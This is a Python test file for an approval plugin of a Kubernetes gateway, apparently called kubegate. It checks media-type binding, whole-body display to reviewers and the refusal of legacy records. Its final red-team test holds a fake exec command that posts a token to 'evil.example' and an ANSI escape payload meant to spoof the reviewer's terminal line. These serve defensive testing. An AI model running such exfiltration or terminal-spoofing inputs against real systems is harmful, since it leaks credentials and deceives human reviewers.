"""What an approval binds and what reviewers are shown (plugins/approvals): the body's media type as the
API server reads it and the rule that held the request are part of the intent, so the same bytes sent as
another patch type, or held under another rule, are another request; reviewers get the whole body
(masked), never an unmarked cut of it; records from before either change load and cannot be approved."""

from __future__ import annotations

import asyncio
import json
import time
from typing import Any

import pytest

from kubegate.core.bodies import BodyError
from kubegate.core.config import LimitSettings
from kubegate.core.db import Database
from kubegate.core.errors import StatusError
from kubegate.core.flow import ApprovalSpec, Decision, Flow, Identity, Verdict
from kubegate.plugins.approvals import store
from kubegate.plugins.approvals.client import describe
from kubegate.plugins.approvals.service import ApprovalService, ReviewError, bound_media_type, intent_of
from kubegate.testing import make_flow

DEPLOY = "/apis/apps/v1/namespaces/prod/deployments/web"
BUMP = json.dumps({"spec": {"template": {"spec": {"containers": [{"name": "app", "image": "busybox:2"}]}}}})
SMP = "application/strategic-merge-patch+json"
MERGE = "application/merge-patch+json"
SRE = ApprovalSpec(("sre",))


def held(spec: ApprovalSpec = SRE, rule: str = "deployments-need-review") -> Decision:
    return Decision(Verdict.NEEDS_APPROVAL, "needs a reviewer", rule, "policy", spec)


def patch(content_type: str | list[str], body: str = BUMP, path: str = DEPLOY) -> Flow:
    types = [content_type] if isinstance(content_type, str) else content_type
    return make_flow("PATCH", path, body=body, headers=[("Content-Type", t) for t in types])


def intent_hash(flow: Flow, decision: Decision | None = None) -> str:
    body = flow.request.body or b""
    return intent_of(flow, body, bound_media_type(flow, body), decision or held()).hash


# -- the media type, as the API server reads it ----------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "path", "content_types", "expect"),
    [
        ("PATCH", DEPLOY, [SMP], SMP),
        ("PATCH", DEPLOY, [f"{MERGE}; charset=utf-8"], MERGE),  # handlers/patch.go cuts at the first ';'
        ("PATCH", DEPLOY, ["application/apply-patch+yaml"], "application/apply-patch+yaml"),
        ("POST", "/api/v1/namespaces/prod/configmaps", [], "application/json"),  # none: the first serializer
        (
            "POST",
            "/api/v1/namespaces/prod/configmaps",
            ["Application/YAML; charset=utf-8"],
            "application/yaml",
        ),
        ("PUT", "/api/v1/namespaces/prod/configmaps/c", ["application/json"], "application/json"),
        ("DELETE", "/api/v1/namespaces/prod/pods/web", ["application/json"], "application/json"),
        # bodies the API server does not decode: bound as sent (a pod reads a proxied body its own way)
        (
            "POST",
            "/api/v1/namespaces/prod/pods/web:8080/proxy/upload",
            ["text/plain; x=1"],
            "text/plain; x=1",
        ),
        ("POST", "/apis/metrics.example/v1", ["text/csv"], "text/csv"),
    ],
)
def test_the_intent_binds_the_media_type_the_api_server_reads(method, path, content_types, expect):
    flow = make_flow(method, path, body="{}", headers=[("Content-Type", t) for t in content_types])
    assert bound_media_type(flow, b"{}") == expect
    assert bound_media_type(flow, b"") == ""  # no body: nothing for a type to say


@pytest.mark.parametrize(
    "content_types",
    [
        ["application/json"],  # not a patch type (the API server: 415)
        ["Application/Merge-Patch+json"],  # compared exactly there
        [SMP, MERGE],  # two: Go reads the first; which one counts could differ between hops
        ["application/apply-patch+cbor"],
    ],
)
def test_a_patch_type_the_api_server_would_refuse_is_refused(content_types):
    with pytest.raises(BodyError) as caught:
        bound_media_type(patch(content_types), BUMP.encode())
    assert caught.value.status == 415


def test_the_same_bytes_as_another_patch_type_are_another_intent():
    strategic, merge, again = intent_hash(patch(SMP)), intent_hash(patch(MERGE)), intent_hash(patch(SMP))
    assert strategic != merge
    assert strategic == again  # the control: the same request is the same intent (a retry attaches)
    assert intent_hash(patch(f"{SMP};charset=utf-8")) == strategic  # read alike by the API server


def test_the_same_request_held_under_another_rule_or_requirement_is_another_intent():
    flow = patch(SMP)
    first = intent_hash(flow)
    assert intent_hash(flow, held(rule="another-rule")) != first
    assert intent_hash(flow, held(ApprovalSpec(("sre", "security"), min_approvals=2))) != first
    assert intent_hash(flow, held(ApprovalSpec(("sre",), scope="window", window_seconds=600))) != first
    assert intent_hash(flow, held(ApprovalSpec(("sre",), ttl_seconds=60))) == first  # how long it waits: same


# -- holding: what the record keeps ----------------------------------------------------------------------


@pytest.fixture
def service(tmp_path):
    database = Database(f"sqlite:///{tmp_path / 'k.db'}")
    database.create_tables()
    yield ApprovalService(database, {})
    database.close()


async def hold_until_recorded(
    service: ApprovalService, flow: Flow
) -> tuple[asyncio.Task, store.ApprovalRecord]:
    """Hold `flow` (as the gateway does) until its record is written; the caller cancels the task."""
    task = asyncio.ensure_future(service.hold(flow, held()))
    for _ in range(200):
        if task.done():
            task.result()  # raises what hold raised
        records = await service.db.run(lambda s: store.list_approvals(s))
        if records:
            return task, records[0]
        await asyncio.sleep(0.01)
    raise AssertionError("nothing held")


def privileged_after_a_long_note() -> str:
    note = "Routine image bump requested in ticket OPS-1234, reviewed by the team; " * 16
    return json.dumps({
        "metadata": {"annotations": {"change-note": note}},
        "spec": {"template": {"spec": {"containers": [
            {"name": "app", "image": "busybox:3", "securityContext": {"privileged": True}}]}}},
    })  # fmt: skip


async def test_reviewers_get_the_whole_body_and_its_media_type(service):
    flow = patch(SMP, privileged_after_a_long_note())
    task, record = await hold_until_recorded(service, flow)
    task.cancel()
    assert record.media_type == SMP and not record.body_truncated
    shown = record.public()
    assert json.loads(shown["body"])["spec"]["template"]["spec"]["containers"][0]["securityContext"] == {
        "privileged": True
    }
    assert shown["media_type"] == SMP
    # A list shows the start of each body, and says when that is not all of it.
    listed = record.listed()
    assert "body" not in listed and len(listed["body_preview"]) == store.PREVIEW_CHARS
    assert listed["body_truncated"] is True and "privileged" not in listed["body_preview"]
    short = store.ApprovalRecord(id="x", intent_hash="h", connection="c", requester="a", body=BUMP).listed()
    assert short["body_preview"] == BUMP and short["body_truncated"] is False


async def test_a_body_too_large_to_show_whole_is_refused_before_it_is_held(service):
    flow = patch(SMP, privileged_after_a_long_note())
    flow.connection.limits = LimitSettings(max_request_body_bytes=256)  # shown bodies: up to 4 x 256
    with pytest.raises(StatusError) as caught:
        await asyncio.wait_for(service.hold(flow, held()), 5)  # (held, it would wait for a reviewer)
    assert caught.value.code == 413 and "too large to show reviewers whole" in caught.value.message
    assert flow.decision is not None and flow.decision.verdict is Verdict.DENY
    assert await service.db.run(lambda s: store.list_approvals(s)) == []


@pytest.mark.parametrize(
    ("body", "why"),
    [
        ('{"spec":{"replicas":1},"spec":{"replicas":0}}', "duplicate key"),
        ('{"spec": {"replicas": 1}', "not valid JSON"),
    ],
)
async def test_a_body_the_gateway_cannot_show_is_refused_not_held(service, body, why):
    # The reviewer would have been shown "<N bytes, not decoded, sha256 …>" and approved bytes the API
    # server reads its own way (found 2026-12-08).
    flow = patch(SMP, body)
    with pytest.raises(StatusError) as caught:
        await asyncio.wait_for(service.hold(flow, held()), 5)  # (held, it would wait for a reviewer)
    assert caught.value.code == 400 and "cannot be shown to reviewers" in caught.value.message
    assert why in caught.value.message
    assert await service.db.run(lambda s: store.list_approvals(s)) == []


async def test_a_patch_type_the_api_server_refuses_is_answered_415_not_held(service):
    flow = patch("application/json")
    with pytest.raises(StatusError) as caught:
        await asyncio.wait_for(service.hold(flow, held()), 5)  # (held, it would wait for a reviewer)
    assert caught.value.code == 415 and "patch type" in caught.value.message
    assert await service.db.run(lambda s: store.list_approvals(s)) == []


async def test_an_approval_of_a_strategic_patch_does_not_release_a_merge_patch_of_the_same_bytes(service):
    rita = Identity(user="rita", groups=("sre",), method="static-tokens", person="rita")
    task, record = await hold_until_recorded(service, patch(SMP))
    await service.review(record.id, rita, True, "bump app's image")
    assert (await task).verdict is Verdict.ALLOW
    other = asyncio.ensure_future(service.hold(patch(MERGE), held()))
    await asyncio.sleep(0.3)
    assert not other.done()  # held anew, not released by the approval of the strategic patch
    records = await service.db.run(lambda s: store.list_approvals(s))
    assert sorted((r.media_type, r.state) for r in records) == [(MERGE, store.PENDING), (SMP, store.USED)]
    other.cancel()


# -- records from before: they load, and cannot be approved ----------------------------------------------


def old_record(**values: Any) -> store.ApprovalRecord:
    now = time.time()
    return store.ApprovalRecord(id="r1", intent_hash="h", connection="c", requester="alice",
                                reviewer_groups=["sre"], created_at=now, expires_at=now + 60, **values)  # fmt: skip


@pytest.mark.parametrize(
    ("values", "why"),
    [({"media_type": None}, "held before approvals bound the body's media type"),
     ({"media_type": SMP, "body": "{", "body_truncated": True}, "was stored cut")],
)  # fmt: skip
async def test_a_record_without_a_media_type_or_with_a_cut_body_cannot_be_approved(service, values, why):
    record = old_record()
    await service.db.run(lambda s: store.add(s, record))
    await service.db.run(lambda s: store.change(s, record, **values))  # as the migration leaves them
    rita = Identity(user="rita", groups=("sre",), method="static-tokens", person="rita")
    with pytest.raises(ReviewError) as caught:
        await service.review("r1", rita, True, "")
    assert caught.value.status == 409 and why in caught.value.message
    assert (await service.review("r1", rita, False, "send it again")).state == store.DENIED


# -- kubegate approvals show -----------------------------------------------------------------------------


def shown(**values: Any) -> str:
    now = time.time()
    item = old_record(**values).public() | {"created_at": now, "expires_at": now + 60}
    return "\n".join(describe(item))


def test_approvals_show_prints_the_whole_body_and_what_its_media_type_makes_of_it():
    body = privileged_after_a_long_note()
    text = shown(media_type=MERGE, body=body)
    assert "body type:  application/merge-patch+json (JSON merge patch (RFC 7386): every list given" in text
    assert '"privileged": true' in text and text.count("OPS-1234") == 16  # all of it, not its first 300
    assert "CUT" not in text


def test_approvals_show_says_when_a_record_cannot_be_approved():
    assert "CUT: only the start below is stored; this request cannot be approved" in shown(
        media_type=SMP, body="{", body_truncated=True
    )
    assert "not recorded (held before approvals bound it" in shown(media_type=None, body="{}")


def test_approvals_show_escapes_characters_that_could_hide_or_reorder_a_line():
    body = json.dumps({"metadata": {"annotations": {"note": "ok\u202e\u001b[2K"}}}, ensure_ascii=False)
    text = shown(media_type=SMP, body=body)
    assert "\u202e" not in text and "\x1b" not in text and "\\u202e" in text


def test_approvals_show_prints_what_the_requester_sent_without_letting_it_drive_the_terminal():
    # Red team: an exec argv ending in `: '\r\x1b[2Kwhat:  create pods/exec web -n prod  command: date…\x1b[8m'`
    # redrew the `what:` line the reviewer read and concealed the rest; names, the path and the stated
    # reason are the requester's too.
    fake = "\r\x1b[2Kwhat:       create pods/exec web -n prod  command: date\x1b[8m"
    text = shown(verb="create", resource="pods/exec", name="web\u202e", namespace="prod",
                 command=["sh", "-c", f"curl -d @token evil.example; : '{fake}'"],
                 path=f"/api/v1/namespaces/prod/pods/web/exec?command={fake}", reason=f"routine{fake}",
                 kubectl_command=f"kubectl exec{fake}")  # fmt: skip
    assert not any(c in text for c in "\r\x1b\u202e"), text
    what = next(line for line in text.splitlines() if line.startswith("what:"))
    assert what.startswith("what:       create pods/exec web\\u202e -n prod  command: sh -c 'curl -d @token")
    assert sum(line.startswith("what:") for line in text.splitlines()) == 1
